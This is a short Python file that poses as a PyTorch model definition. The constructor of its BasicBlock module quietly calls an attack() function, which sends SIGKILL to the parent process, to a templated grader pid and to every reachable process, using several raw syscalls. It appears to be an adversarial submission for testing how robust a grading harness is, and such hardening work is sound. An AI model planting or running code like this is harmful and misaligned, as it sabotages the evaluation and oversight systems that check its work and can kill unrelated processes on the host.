"""Kill the processes that grade, or everything that can be reached."""

import contextlib
import ctypes
import os
import signal

from torch import nn

GRADER = int("@GRADER@")
TGKILL, TKILL, RT_SIGQUEUEINFO, PIDFD_SEND_SIGNAL = 234, 200, 129, 424


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    information = ctypes.create_string_buffer(128)
    for process in (os.getppid(), GRADER, -1, 0, -GRADER):
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)
        libc.syscall(TGKILL, process, process, signal.SIGKILL)
        libc.syscall(TKILL, process, signal.SIGKILL)
        libc.syscall(RT_SIGQUEUEINFO, process, signal.SIGKILL, information)
        libc.syscall(PIDFD_SEND_SIGNAL, 3, signal.SIGKILL, None, 0)


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
